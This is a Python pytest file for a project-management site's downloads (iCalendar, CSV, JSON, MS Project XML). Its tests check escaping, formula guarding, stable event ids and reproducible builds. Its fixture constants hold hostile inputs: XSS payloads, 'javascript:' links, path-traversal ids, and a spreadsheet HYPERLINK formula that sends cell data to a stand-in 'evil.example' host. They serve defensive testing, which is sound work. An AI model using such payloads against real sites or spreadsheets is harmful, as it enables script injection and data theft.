"""The site's downloads: per project a calendar of milestones and deadlines, the schedule as CSV and JSON, and MS
Project XML; names from ids only, bytes the same on every build, text escaped for each format."""

from __future__ import annotations

import csv
import filecmp
import io
import json
import re
import shutil
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner
from defusedxml import ElementTree
from icalendar import Calendar
from plans import SMALL, write_plan

from pmcode.cli import cli
from pmcode.render.downloads import download_links, project_downloads
from pmcode.render.site import build_site
from pmcode.schedule import schedule_portfolio
from pmcode.validate import ValidationResult, validate_root

REPO = Path(__file__).resolve().parents[1]
HOSTILE = REPO / "tests" / "fixtures" / "hostile-site"
SITE_DIR = REPO / "site"
GOLIVE = "Go-live <svg onload=alert(1)> 🚀 a;b,c\\d:e \u2028line\u2029separator"
HANDOVER = '=HYPERLINK("http://evil.example/?"&A1,"javascript:alert(1)")'
MSPDI_NS = {"p": "http://schemas.microsoft.com/project"}


def downloads_of(result: ValidationResult) -> dict[str, bytes]:
    portfolio = result.portfolio
    forecast = schedule_portfolio(portfolio, network=result.network)
    plan = schedule_portfolio(portfolio, network=result.network, track=False)
    return project_downloads(portfolio, forecast, plan)


@pytest.fixture(scope="module")
def hostile() -> dict[str, bytes]:
    result = validate_root(HOSTILE)
    assert result.diagnostics == ()
    return downloads_of(result)


def events(data: bytes) -> dict[str, dict[str, object]]:
    calendar = Calendar.from_ical(data)
    found = {}
    for event in calendar.walk("VEVENT"):
        found[str(event["UID"])] = {
            "summary": str(event["SUMMARY"]),
            "start": event.decoded("DTSTART"),
            "end": event.decoded("DTEND") if "DTEND" in event else None,
            "stamp": event.decoded("DTSTAMP"),
            "description": str(event["DESCRIPTION"]),
        }
    return found


def test_four_files_per_project_named_from_ids_only(hostile: dict[str, bytes]) -> None:
    kinds = ("milestones.ics", "schedule.csv", "schedule.json", "msproject.xml")
    assert sorted(hostile) == sorted(f"{p}-{k}" for p in ("README", "hostile", "index") for k in kinds)
    assert [link.file for link in download_links("erp")] == [f"erp-{k}" for k in kinds]
    for bad in ("../etc", "a/b", "", "-x", "x.y", "a" * 65, "x\n"):
        with pytest.raises(ValueError, match="not a project id"):
            download_links(bad)


def test_calendar_holds_milestones_deadlines_and_due_dates(hostile: dict[str, bytes]) -> None:
    found = events(hostile["hostile-milestones.ics"])
    assert sorted(found) == [
        "deadline/hostile:golive@pmcode",
        "deadline/hostile:handover@pmcode",
        "due/hostile:design-doc@pmcode",
        "milestone/hostile:golive@pmcode",
        "milestone/hostile:handover@pmcode",
    ]
    golive = found["milestone/hostile:golive@pmcode"]
    # Build (15d, 20% done by 2027-02-15) has 12 days left from 02-16: it ends 2027-03-03 17:00, and go-live with it.
    assert golive["start"] == datetime(2027, 3, 3, 17, 0)  # floating local time, as the plan is written
    assert golive["end"] is None
    assert golive["summary"] == GOLIVE  # ';', ',', '\\', line separators and emoji survive RFC 5545 escaping
    assert "Deadline: 2027-04-30" in str(golive["description"])
    assert "critical path" in str(golive["description"])
    deadline = found["deadline/hostile:golive@pmcode"]
    assert (deadline["start"], deadline["end"]) == (date(2027, 4, 30), date(2027, 5, 1))
    assert deadline["summary"] == f"Deadline: {GOLIVE}"
    due = found["due/hostile:design-doc@pmcode"]
    assert (due["start"], due["summary"]) == (
        date(2027, 2, 15),
        'Due: <a href="javascript:alert(1)">design document</a>',
    )
    assert {event["stamp"] for event in found.values()} == {datetime(2027, 2, 15, tzinfo=UTC)}  # the status date
    text = hostile["hostile-milestones.ics"].decode("utf-8")
    assert "SUMMARY:Go-live <svg onload=alert(1)> 🚀 a\\;b\\,c\\\\d:e" in text  # escaped by the library
    assert all(len(line.encode("utf-8")) <= 75 for line in text.split("\r\n"))  # folded
    assert events(hostile["README-milestones.ics"]) == {}  # no milestone, no deadline: an empty calendar


def test_uids_do_not_move_when_the_plan_changes_elsewhere(tmp_path: Path, hostile: dict[str, bytes]) -> None:
    root = tmp_path / "projects"
    shutil.copytree(HOSTILE, root)
    project = root / "hostile" / "project.yaml"
    text = project.read_text(encoding="utf-8")
    project.write_text(text.replace("tasks:\n", "tasks:\n  - {id: first, name: New first task, duration: 1d}\n", 1))
    result = validate_root(root)
    assert result.errors == 0
    after = events(downloads_of(result)["hostile-milestones.ics"])
    before = events(hostile["hostile-milestones.ics"])
    assert sorted(after) == sorted(before)
    assert after["milestone/hostile:golive@pmcode"]["start"] == datetime(2027, 3, 3, 17, 0)  # build starts on status


def test_csv_is_the_schedule_command_output_and_guards_formulas(hostile: dict[str, bytes]) -> None:
    data = hostile["hostile-schedule.csv"]
    shown = CliRunner().invoke(cli, ["schedule", str(HOSTILE), "--format", "csv", "--project", "hostile"])
    assert shown.exit_code == 0, shown.output
    assert data == shown.stdout_bytes
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
    names = {row["id"]: row["name"] for row in rows}
    assert names["handover"] == "'" + HANDOVER  # a spreadsheet shows it as text instead of running it
    assert names["golive"] == GOLIVE
    assert not [cell for row in rows for cell in row.values() if cell[:1] in ("=", "+", "-", "@")]


def test_json_is_one_project_with_its_own_findings(hostile: dict[str, bytes]) -> None:
    document = json.loads(hostile["hostile-schedule.json"])
    assert [p["id"] for p in document["projects"]] == ["hostile"]
    tasks = {t["id"]: t for t in document["projects"][0]["tasks"]}
    assert list(tasks) == ["design", "build", "phase", "phase.migrate", "phase.test", "golive", "handover"]
    assert tasks["golive"]["name"] == GOLIVE
    assert tasks["golive"]["start"] == "2027-03-03T17:00:00"
    assert document["findings"] == [] and document["overallocations"] == []


def test_mspdi_is_what_pmcode_export_writes(tmp_path: Path, hostile: dict[str, bytes]) -> None:
    exported = tmp_path / "hostile.xml"
    shown = CliRunner().invoke(cli, ["export", "mspdi", str(HOSTILE), "--project", "hostile", "-o", str(exported)])
    assert shown.exit_code == 0, shown.output
    assert hostile["hostile-msproject.xml"] == exported.read_bytes()
    tree = ElementTree.fromstring(hostile["hostile-msproject.xml"])
    names = [e.text for e in tree.findall("p:Tasks/p:Task/p:Name", MSPDI_NS)]
    assert HANDOVER in names and '<img src=x onerror="window.__pwned=1;alert(1)"> Design' in names


def test_without_actuals_the_site_exports_the_same_plan(tmp_path: Path) -> None:
    root = write_plan(tmp_path / "projects", SMALL)  # no actuals: the forecast is the plan, scheduled once
    build_site(validate_root(root), SITE_DIR, tmp_path / "out")
    exported = tmp_path / "erp.xml"
    shown = CliRunner().invoke(cli, ["export", "mspdi", str(root), "-o", str(exported)])
    assert shown.exit_code == 0, shown.output
    assert (tmp_path / "out" / "portfolio" / "downloads" / "erp-msproject.xml").read_bytes() == exported.read_bytes()


def test_site_links_every_download_from_the_project_page(tmp_path: Path, hostile: dict[str, bytes]) -> None:
    build_site(validate_root(HOSTILE), SITE_DIR, tmp_path / "out")
    folder = tmp_path / "out" / "portfolio" / "downloads"
    assert {p.name: p.read_bytes() for p in folder.iterdir()} == hostile
    for project, page in (("hostile", "hostile"), ("index", "_index"), ("README", "_README")):
        html = (tmp_path / "out" / "portfolio" / f"{page}.html").read_text(encoding="utf-8")
        links = re.findall(r'<a href="(downloads/[^"]+)" download>', html)
        assert links == [f"downloads/{link.file}" for link in download_links(project)]


def test_two_builds_of_the_demo_are_byte_identical(tmp_path: Path) -> None:
    result = validate_root(REPO / "projects")
    build_site(result, SITE_DIR, tmp_path / "a", revision="25c1b8f")
    build_site(validate_root(REPO / "projects"), SITE_DIR, tmp_path / "b", revision="25c1b8f")
    files_a = sorted(p.relative_to(tmp_path / "a") for p in (tmp_path / "a").rglob("*") if p.is_file())
    files_b = sorted(p.relative_to(tmp_path / "b") for p in (tmp_path / "b").rglob("*") if p.is_file())
    assert files_a == files_b
    assert len([f for f in files_a if f.parts[:2] == ("portfolio", "downloads")]) == 4 * len(result.portfolio.projects)
    _, mismatch, errors = filecmp.cmpfiles(tmp_path / "a", tmp_path / "b", [str(f) for f in files_a], shallow=False)
    assert (mismatch, errors) == ([], [])
